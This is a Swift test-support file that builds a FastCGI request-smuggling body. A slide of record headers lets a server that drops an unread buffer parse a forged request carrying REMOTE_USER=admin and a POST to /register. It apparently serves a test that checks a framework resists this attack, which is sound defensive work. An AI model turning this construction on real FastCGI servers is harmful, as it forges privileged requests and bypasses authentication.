import AfterglowTesting

/// A request body that turns into a request of its own wherever the reading of records begins within it.
///
/// It is the attack of a client of the web server on a server that keeps a connection with an unread body: the server drops
/// what its buffer of 8 KiB holds, and takes the rest for records. Where that falls is not the client's to know, so the body
/// is a slide of records of another request, which libfcgi passes over, down to a forged request. Each record of the slide
/// has the header of the next as its content; so one of sixteen alignments leads to the forged request.
enum ForgedBody {
  /// As many as there are in the acceptance figure: each begins at another byte of the buffer.
  static let alignments = 32

  /// What a forged request would leave in Registration's log.
  static let email = "forged@example.org"

  /// Shifts what follows the params by another number of bytes: through all of the buffer, and twice through the sixteen.
  static func shift(_ alignment: Int) -> String { String(repeating: "a", count: 1 + alignment * 257) }

  /// A body of 20,000 to 113,000 bytes: some arrive whole with their request, some are left in the socket.
  static func bytes(_ alignment: Int) -> [UInt8] {
    let block = slide + forgedRequest
    let count = (20_000 + alignment * 3000) / block.count
    return [[UInt8]](repeating: block, count: count).flatMap { $0 }
  }

  private static let slide = [[UInt8]](repeating: [1, 5, 0, 7, 0, 8, 0, 0], count: 400).flatMap { $0 }

  private static let forgedRequest: [UInt8] = {
    let user = Array(#"{"email":"\#(email)","password":"lovelace"}"#.utf8)
    let params = [
      ("REMOTE_USER", "admin"), ("REQUEST_METHOD", "POST"), ("REQUEST_URI", "/register"),
      ("CONTENT_TYPE", "application/json"), ("CONTENT_LENGTH", "\(user.count)"),
      ("SERVER_PROTOCOL", "HTTP/1.1"),
    ].flatMap { NameValuePair(name: $0.0, value: $0.1).encoded }
    let records =
      [Record.beginRequest(requestID: 1, role: .responder, keepConnection: true)]
      + Record.stream(.params, requestID: 1, content: params) + [Record(type: .params, requestID: 1)]
      + Record.stream(.stdin, requestID: 1, content: user) + [Record(type: .stdin, requestID: 1)]
    let bytes = records.flatMap(\.encoded)
    // The slide goes on at the same alignment behind it.
    return bytes + [UInt8](repeating: 0, count: (16 - bytes.count % 16) % 16)
  }()
}

extension FastCGIConnection {
  /// Sends a request with a forged body, all but its first record in one go, so that buffers are full where they can be.
  func sendForged(_ alignment: Int, params: [(String, String)]) async throws {
    let params = (params + [("HTTP_X_SHIFT", ForgedBody.shift(alignment))])
      .flatMap { NameValuePair(name: $0.0, value: $0.1).encoded }
    let records =
      Record.stream(.params, requestID: 1, content: params) + [Record(type: .params, requestID: 1)]
      + Record.stream(.stdin, requestID: 1, content: ForgedBody.bytes(alignment))
      + [Record(type: .stdin, requestID: 1)]
    try await beginRequest(keepConnection: true)
    // A server that closes early doesn't take it all.
    try? await send(bytes: records.flatMap(\.encoded))
  }
}
